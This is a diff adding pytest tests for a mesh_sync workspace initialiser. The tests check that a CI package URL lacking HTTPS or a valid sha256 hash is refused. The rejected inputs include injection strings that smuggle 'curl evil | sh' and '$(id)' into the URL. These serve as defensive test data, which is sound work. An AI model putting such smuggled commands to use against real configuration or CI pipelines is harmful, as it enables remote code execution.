@@ -13,9 +13,11 @@ import attrs
 import pytest
 
 from mesh_sync.check.leaked_keys import leaked_keys
+from mesh_sync.errors import ConfigError
 from mesh_sync.mesh import manifest, tree
 from mesh_sync.mesh.model import Mesh, Peer
 from mesh_sync.trust import node_rights, signers
+from mesh_sync.workspace import init
 from unit.hooked_git_host import Push
 
 TEMPLATE = Path(__file__).parents[2] / "mesh-repo-template"
@@ -131,3 +133,29 @@ def test_the_template_passes_the_real_check_and_a_mistake_does_not(host: Push) -
     result = host.push()
     assert result.returncode == 1
     assert "remote: peers/x.toml:mtu: " in result.stderr
+
+
+def test_ci_installs_the_package_that_init_is_told(tmp_path: Path) -> None:
+    told = f"https://example.org/mesh_sync-0.1.0-py3-none-any.whl#sha256={'a1' * 32}"
+    made = init.create(tmp_path / "mesh", "lab", ["10.0.0.0/24"], ci_package=told)
+    for file in init.CI_FILES:
+        assert f'MESH_SYNC: "{told}"\n' in (made / file).read_text()
+        assert (made / file).read_text().replace(told, "") == (TEMPLATE / file).read_text()
+
+
+@pytest.mark.parametrize(
+    "told",
+    [
+        "mesh-sync",
+        "https://example.org/mesh_sync.whl",
+        f"http://example.org/mesh_sync.whl#sha256={'a1' * 32}",
+        f"https://example.org/mesh_sync.whl#sha256={'A1' * 31}",
+        f'https://example.org/"; curl evil | sh; "#sha256={"a1" * 32}',
+        f"https://example.org/$(id)#sha256={'a1' * 32}",
+        f"https://example.org/mesh_sync.whl#sha256={'a1' * 32}\n",
+    ],
+)
+def test_a_package_for_ci_without_https_or_hash_is_refused(told: str, tmp_path: Path) -> None:
+    with pytest.raises(ConfigError, match="--ci-package"):
+        init.create(tmp_path / "mesh", "lab", ["10.0.0.0/24"], ci_package=told)
+    assert not (tmp_path / "mesh").exists()
